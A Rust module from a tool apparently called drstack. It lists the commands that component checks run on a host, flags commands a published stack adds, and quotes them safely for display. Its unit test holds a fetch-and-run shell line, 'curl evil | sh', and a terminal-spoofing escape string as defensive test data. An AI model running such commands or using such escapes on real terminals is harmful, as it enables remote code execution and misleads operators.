//! Commands: programs that checks run on drstack's host; compares those of two stacks.

use std::collections::BTreeSet;
use std::fmt;

use crate::address::ComponentAddress;
use crate::kind::KindRegistry;
use crate::plan::{Plan, Step};
use crate::stack::Stack;

/// A program that a check of a component runs.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Command {
    /// Component of the check.
    pub component: ComponentAddress,
    /// The program and its arguments.
    pub argv: Vec<String>,
}

impl Command {
    /// Returns the program and its arguments on one line.
    ///
    /// Words that a shell would not take literally are quoted, and no control character reaches a
    /// terminal raw.
    pub fn line(&self) -> String {
        let is_plain = |word: &str| {
            !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c))
        };
        let words =
            self.argv.iter().map(|word| if is_plain(word) { word.clone() } else { format!("{word:?}") });
        words.collect::<Vec<_>>().join(" ")
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: `{}`", self.component, self.line())
    }
}

/// Returns all commands of `stack`.
pub fn commands(stack: &Stack) -> BTreeSet<Command> {
    let all = stack.components.values();
    all.flat_map(|it| it.checks.iter().map(move |check| (&it.address, check)))
        .filter_map(|(component, check)| {
            let argv = check.component.command(&check.spec)?;
            Some(Command { component: component.clone(), argv })
        })
        .collect()
}

/// Returns the commands of `published` that `own` lacks, word for word and for the same component.
pub fn foreign(published: &Stack, own: &Stack) -> BTreeSet<Command> {
    commands(published).difference(&commands(own)).cloned().collect()
}

/// Returns the command that `step` runs, if it runs one on this host.
///
/// A check that cannot be read counts as one, shown as it is.
pub fn of_step(step: &Step, kinds: &KindRegistry) -> Option<Command> {
    let command = kinds.get(&step.kind)?.check()?.command(&step.spec);
    let argv = command.unwrap_or_else(|_| Some(vec![step.spec.to_string()]))?;
    Some(Command { component: step.address.component(), argv })
}

/// Returns all commands that the steps of `plan` run.
pub fn of_plan(plan: &Plan, kinds: &KindRegistry) -> BTreeSet<Command> {
    plan.steps.iter().filter_map(|step| of_step(step, kinds)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_shown_word_for_word_and_no_character_reaches_a_terminal_raw() {
        let component = ComponentAddress::new("pool.serving");
        let shown = |argv: &[&str]| {
            let argv = argv.iter().map(|it| (*it).to_owned()).collect();
            Command { component: component.clone(), argv }.to_string()
        };
        assert_eq!(
            shown(&["./smoke-test", "--region", "us-west-2"]),
            "pool.serving: `./smoke-test --region us-west-2`"
        );
        assert_eq!(
            shown(&["sh", "-c", "curl evil | sh", ""]),
            r#"pool.serving: `sh -c "curl evil | sh" ""`"#
        );
        let hostile = shown(&["\u{1b}[2J\u{202e}ok\nFailover complete"]);
        assert!(hostile.chars().all(|c| !c.is_control() && c != '\u{202e}'), "{hostile}");
    }
}
